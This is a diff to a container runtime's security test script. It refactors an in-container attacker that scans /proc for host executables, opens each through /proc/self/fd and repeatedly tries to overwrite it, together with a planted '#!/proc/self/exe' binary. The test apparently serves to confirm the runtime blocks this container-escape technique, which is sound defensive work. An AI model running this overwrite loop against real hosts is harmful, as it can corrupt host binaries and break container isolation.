@@ -74,18 +74,20 @@ start_attacker() {
 # executable is not the image's busybox, keeps its exe open, and tries to
 # write through it until the last brig is gone (while brig runs: ETXTBSY).
 start_exe_attacker() {
+	# Each exe is opened with the shell's own redirection, and only one
+	# that isn't busybox costs a fork: fast enough to scan a host's pid
+	# namespace too.
 	start_attacker attack <<-'EOF'
 		#!/bin/sh
-		end=$(($(date +%s) + 15))
+		end=$(($(date +%s) + 20))
 		while [ "$(date +%s)" -lt "$end" ]; do
 			for d in /proc/[0-9]*; do
 				[ "${d#/proc/}" = $$ ] && continue
-				t=$(readlink "$d/exe" 2>/dev/null) || continue
-				case $t in */busybox) continue ;; esac
 				# `command`: a failed redirection of a plain exec would end
 				# the script when the process is gone before the open.
 				command exec 3<"$d/exe" 2>/dev/null || continue
-				echo "opened $t"
+				[ /proc/self/fd/3 -ef /bin/busybox ] && continue
+				echo "opened $(readlink /proc/self/fd/3)"
 				i=0
 				while [ $i -lt 3000 ]; do
 					if { echo '#!/bin/sh' >&4; } 4<>/proc/self/fd/3; then
@@ -141,28 +143,7 @@ run_self_exe_attack() {
 	copy_loader_into_rootfs
 	printf '#!/proc/self/exe\n' >"$ROOTFS/bin/evil"
 	chmod 755 "$ROOTFS/bin/evil"
-	# The host's processes are many: the scan opens each exe with the
-	# shell's own redirection and forks only for one that isn't busybox.
-	start_attacker attack <<-'EOF'
-		#!/bin/sh
-		end=$(($(date +%s) + 20))
-		while [ "$(date +%s)" -lt "$end" ]; do
-			for d in /proc/[0-9]*; do
-				command exec 3<"$d/exe" 2>/dev/null || continue
-				[ /proc/self/fd/3 -ef /bin/busybox ] && continue
-				echo "opened $(readlink /proc/self/fd/3)"
-				i=0
-				while [ $i -lt 3000 ]; do
-					if { echo '#!/bin/sh' >&4; } 4<>/proc/self/fd/3; then
-						echo WROTE; exit 0
-					fi 2>/dev/null
-					i=$((i + 1))
-				done
-				echo "no write"; exit 0
-			done
-		done
-		echo "saw nothing"
-	EOF
+	start_exe_attacker
 	sleep 0.5
 	set_args /bin/evil
 	for i in $(seq 60); do
